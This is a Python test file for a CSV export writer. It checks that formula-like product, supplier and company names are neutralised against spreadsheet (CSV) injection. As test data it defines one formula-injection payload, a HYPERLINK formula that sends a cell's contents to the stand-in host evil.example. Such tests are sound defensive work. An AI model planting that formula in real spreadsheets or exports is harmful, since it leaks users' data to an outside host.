"""Both downloads go through one CSV writer that neutralises spreadsheet formulas (CSV
injection): a name a buyer's spreadsheet would run as `=HYPERLINK(...)` arrives as text."""

from __future__ import annotations

import csv
import io
from typing import Any

from graphql_api.services import csv_writer
from tests import catalog_helpers as c
from tests.factories import create_company

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Clique")'


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith(csv_writer.BOM)
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_cells_that_a_spreadsheet_would_run_are_written_as_text():
    assert [csv_writer.cell(v) for v in ("=1+1", "+55 11", "-2", "@SUM(A1)", "\tx", "ok")] == [
        "'=1+1",
        "'+55 11",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "ok",
    ]
    assert csv_writer.cell(None) == "" and csv_writer.cell(True) == "true"
    assert csv_writer.unneutralise("'=1+1") == "=1+1"
    assert csv_writer.unneutralise("'plain") == "'plain"


async def test_price_table_csv_neutralises_product_and_supplier_names(api: Any, admin: Any):
    supplier = await c.supplier(admin, "+Fornecedor perigoso")
    category = await c.category(admin, "@Categoria")
    await c.product(admin, "EVIL-1", "10", supplier, category, name=EVIL)
    response = await admin.http.get(
        "/price-table.csv", headers={"Authorization": f"Bearer {admin.token}"}
    )
    assert response.status_code == 200, response.text
    [row] = _rows(response.content.decode("utf-8"))
    assert row["sku"] == "EVIL-1"
    assert row["name"] == "'" + EVIL
    assert row["supplier"] == "'+Fornecedor perigoso"
    assert row["category"] == "'@Categoria"


async def test_customer_export_neutralises_company_names(admin: Any):
    await create_company(admin, legalName=EVIL)
    data = await admin.data("{ companiesCsv }")
    [row] = _rows(data["companiesCsv"])
    assert row["legal_name"] == "'" + EVIL
